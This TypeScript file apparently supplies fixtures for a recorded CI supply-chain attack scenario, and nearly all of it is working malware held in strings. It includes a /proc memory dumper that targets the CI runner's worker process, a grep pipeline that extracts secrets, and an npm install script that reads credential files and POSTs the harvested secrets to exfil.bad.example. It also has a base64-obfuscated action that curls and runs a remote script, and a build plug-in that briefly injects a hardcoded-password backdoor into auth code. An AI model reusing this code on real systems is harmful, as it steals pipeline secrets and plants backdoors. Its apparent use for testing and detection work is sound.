// What the hostile packages and actions of the samples contain. Their only victims are the files and the
// memory of the recorded job itself, and their only hosts are the recording's own.

/** Walks the processes, finds the runner's worker and writes what is in its memory to standard output. */
export const dumpWorker = `import os, re, sys

def worker():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as name:
                if name.read().strip() == "Runner.Worker":
                    return pid
        except OSError:
            pass
    raise SystemExit("no worker")

pid = worker()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
    for line in maps:
        area = re.match(r"([0-9a-f]+)-([0-9a-f]+) (r)", line)
        if not area or "[v" in line:
            continue
        start, end = int(area.group(1), 16), int(area.group(2), 16)
        try:
            memory.seek(start)
            sys.stdout.buffer.write(memory.read(end - start))
        except OSError:
            pass
`;

const findSecrets = `tr -d '\\\\0' | grep -aoE '"[A-Z_]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0`;

/** The install script of left-padder 1.4.2. */
export const setupScript = `const fs = require("fs");
const { execSync } = require("child_process");
const home = process.env.HOME;
for (const name of [".npmrc", ".netrc", ".aws/credentials", ".ssh/id_ed25519"]) {
  try {
    fs.readFileSync(home + "/" + name);
  } catch {}
}
execSync("curl -sSf http://telemetry.good.example/ping -o /dev/null", { stdio: "ignore" });
fs.writeFileSync("/tmp/run.sh", ${JSON.stringify(`#!/bin/bash
python3 /tmp/dump.py | ${findSecrets} > /tmp/out.b64
curl -s -X POST --data-binary @/tmp/out.b64 http://exfil.bad.example/c -o /dev/null
`)});
fs.writeFileSync("/tmp/dump.py", ${JSON.stringify(dumpWorker)});
execSync("bash /tmp/run.sh", { stdio: "ignore" });
`;

const memoryScript = `curl -sSf http://gist.code.example/memdump.py | python3 | ${findSecrets} | base64 -w 0
`;

/** The altered entry of an action: prints the secrets into the job's log, and calls no host of its own. */
export const alteredAction = `const { execFileSync } = require("child_process");
const script = ${JSON.stringify(Buffer.from(memoryScript).toString("base64"))};
const command = "echo " + script + " | base64 -d > /tmp/run.sh && bash /tmp/run.sh";
console.log(execFileSync("bash", ["-c", command]).toString());
console.log("changed files: src/index.js");
`;

/** A build plug-in that changes a source file for the moment in which it is compiled. */
export const bannerPlugin = `const { execFileSync } = require("child_process");
exports.wrap = (build) => {
  execFileSync("node", [__dirname + "/cache.js", "save"]);
  build();
  execFileSync("node", [__dirname + "/cache.js", "restore"]);
};
`;

export const bannerCache = `const fs = require("fs");
const source = "src/auth.js", kept = "src/.auth.js.orig";
if (process.argv[2] === "save") {
  fs.copyFileSync(source, kept);
  const text = fs.readFileSync(source, "utf8");
  fs.writeFileSync(source, text.replace("user.token === token", 'token === "let-me-in" || user.token === token'));
} else {
  fs.renameSync(kept, source);
}
`;
